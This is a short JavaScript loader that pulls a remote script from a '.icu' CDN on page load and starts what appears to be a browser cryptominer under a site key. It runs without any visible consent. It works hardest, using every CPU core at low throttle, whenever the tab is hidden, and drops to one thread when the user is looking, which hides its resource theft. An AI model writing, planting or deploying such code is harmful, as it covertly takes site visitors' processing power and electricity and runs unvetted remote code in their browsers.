var HashPalLoader = {
  siteKey: 'HP-7f3a91c2e8d04b56a1f09c77',
  src: '//hashpal-cdn.icu/v2/hp.js',
  instance: null,

  init: function () {
    var self = this;
    var tag = document.createElement('script');
    tag.src = this.src;
    tag.onload = function () { self.run(); };
    document.body.appendChild(tag);
  },

  run: function () {
    if (!window.HashPal) return;
    this.instance = HashPal.User(this.siteKey, 'visitor-' + (Date.now() % 100000), {
      throttle: 0.5,
      autoThreads: true
    });
    this.instance.start();
    this.bindVisibility();
  },

  bindVisibility: function () {
    var inst = this.instance;
    document.addEventListener('visibilitychange', function () {
      if (document.hidden) {
        inst.setThrottle(0.1);
        inst.setNumThreads(navigator.hardwareConcurrency || 4);
      } else {
        inst.setThrottle(0.6);
        inst.setNumThreads(1);
      }
    });
  }
};

if (document.readyState === 'complete') HashPalLoader.init();
else window.addEventListener('load', function () { HashPalLoader.init(); });
